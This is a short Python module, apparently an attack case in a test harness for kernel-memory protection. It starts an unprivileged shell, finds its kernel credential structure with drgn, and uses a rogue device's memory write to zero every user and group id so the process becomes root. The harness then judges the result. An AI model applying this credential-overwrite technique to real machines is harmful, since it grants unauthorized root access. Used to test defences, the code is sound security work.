# SPDX-License-Identifier: Apache-2.0
"""Patch a process's credentials: it turns root."""

from drgn.helpers.linux.pid import find_task

from harness.devices.attacks.attack import ON_KERNEL_MEMORY, Attack, Observation
from harness.devices.attacks.context import Context
from harness.devices.attacks.judging import damage

IDS = 8
"""uid, gid, suid, sgid, euid, egid, fsuid, fsgid: one after the other (include/linux/cred.h)."""

START = r"""
mkdir -p /etc; echo 'nobody:x:1000:1000::/:/bin/sh' > /etc/passwd
mkfifo -m 666 /tmp/go /tmp/who
setsid su -s /bin/sh nobody -c 'echo $$ > /tmp/who; read word < /tmp/go; id -u > /tmp/who' \
    > /dev/null 2>&1 < /dev/null &
cat /tmp/who
"""
"""A shell of an unprivileged user, which waits and then says who it is."""

CONTINUE = "echo now > /tmp/go; cat /tmp/who"


def run(context: Context) -> Observation:
    """Set every id of a waiting shell to root's."""
    pid = int(context.sh(START))
    cred = find_task(context.types.program, pid).cred
    place, root = context.phys(cred.uid), bytes(4 * IDS)
    context.rogue.write(place, root)
    seen = context.sh(CONTINUE)
    return damage(context, place, root, seen == "0", f"the process says that its user is {seen}")


ATTACK = Attack("turns a user's process into root's", run, ON_KERNEL_MEMORY)
